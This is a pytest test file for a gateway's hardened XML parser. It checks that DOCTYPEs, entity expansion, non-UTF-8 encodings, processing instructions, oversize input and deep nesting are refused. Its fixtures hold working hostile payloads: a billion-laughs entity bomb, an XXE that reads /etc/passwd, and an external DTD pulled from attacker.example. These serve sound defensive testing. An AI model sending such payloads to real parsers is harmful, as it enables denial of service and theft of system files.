"""Hostile-input-safe parsing: limits, DTDs, entities, PIs, depth."""

from __future__ import annotations

import time

import pytest
from lxml import etree

from gateway.envelope import xmlsafe
from gateway.errors import UnsafeXmlError

LIMITS = {"max_bytes": 2_000_000, "max_depth": 64}

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Envelope xmlns="urn:caf-exchange:1">&lol9;</Envelope>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Envelope xmlns="urn:caf-exchange:1">&xxe;</Envelope>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Envelope SYSTEM "http://attacker.example/evil.dtd">
<Envelope xmlns="urn:caf-exchange:1"/>"""


def nested(depth: int) -> bytes:
    return b"<a>" * depth + b"</a>" * depth


def test_a_plain_document_parses() -> None:
    root = xmlsafe.parse(b'<Envelope xmlns="urn:caf-exchange:1"><Header/></Envelope>', **LIMITS)
    assert etree.QName(root).localname == "Envelope"


def test_an_oversize_message_is_refused_before_parsing() -> None:
    # Not even well-formed: a size refusal proves the parser never ran.
    data = b"<a>" + b"x" * 3_000_000
    with pytest.raises(UnsafeXmlError, match=r"message is 3000003 bytes, limit 2000000"):
        xmlsafe.parse(data, **LIMITS)


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, XXE, EXTERNAL_DTD],
    ids=["billion-laughs", "xxe-file", "external-dtd"],
)
def test_a_doctype_is_refused_before_any_entity_is_expanded(data: bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(UnsafeXmlError, match="DOCTYPE not allowed"):
        xmlsafe.parse(data, **LIMITS)
    assert time.perf_counter() - started < 0.5


def test_a_doctype_hidden_by_utf16_encoding_is_refused() -> None:
    data = XXE.replace(b'version="1.0"', b'version="1.0" encoding="UTF-16"')
    with pytest.raises(UnsafeXmlError, match="UTF-8"):
        xmlsafe.parse(data.decode("ascii").encode("utf-16"), **LIMITS)


def test_a_declared_non_utf8_encoding_is_refused() -> None:
    data = b'<?xml version="1.0" encoding="UTF-7"?><a/>'
    with pytest.raises(UnsafeXmlError, match="declared encoding UTF-7"):
        xmlsafe.parse(data, **LIMITS)


def test_an_undeclared_entity_reference_is_refused() -> None:
    with pytest.raises(UnsafeXmlError, match="not well-formed"):
        xmlsafe.parse(b"<a>&xxe;</a>", **LIMITS)


@pytest.mark.parametrize(
    "data",
    [b'<?xml-stylesheet href="x.xsl"?><a/>', b"<a><?php echo 1; ?></a>", b"<a/><?after x?>"],
    ids=["before-root", "inside", "after-root"],
)
def test_processing_instructions_are_refused(data: bytes) -> None:
    with pytest.raises(UnsafeXmlError, match="processing instruction"):
        xmlsafe.parse(data, **LIMITS)


def test_the_xml_declaration_is_not_mistaken_for_a_processing_instruction() -> None:
    assert xmlsafe.parse(b'<?xml version="1.0" encoding="UTF-8"?><a/>', **LIMITS).tag == "a"


def test_nesting_at_the_limit_is_accepted() -> None:
    assert xmlsafe.parse(nested(64), **LIMITS).tag == "a"


def test_nesting_one_past_the_limit_is_refused() -> None:
    with pytest.raises(UnsafeXmlError, match="nesting deeper than 64"):
        xmlsafe.parse(nested(65), **LIMITS)


def test_hundred_thousand_deep_nesting_is_refused_without_exhausting_the_stack() -> None:
    with pytest.raises(UnsafeXmlError, match="nesting deeper than"):
        xmlsafe.parse(nested(100_000), **LIMITS)


def test_malformed_xml_is_refused_with_the_parser_reason() -> None:
    with pytest.raises(UnsafeXmlError, match="not well-formed XML"):
        xmlsafe.parse(b"<a><b></a>", **LIMITS)


def test_each_thread_reuses_one_parser() -> None:
    assert xmlsafe.parser() is xmlsafe.parser()
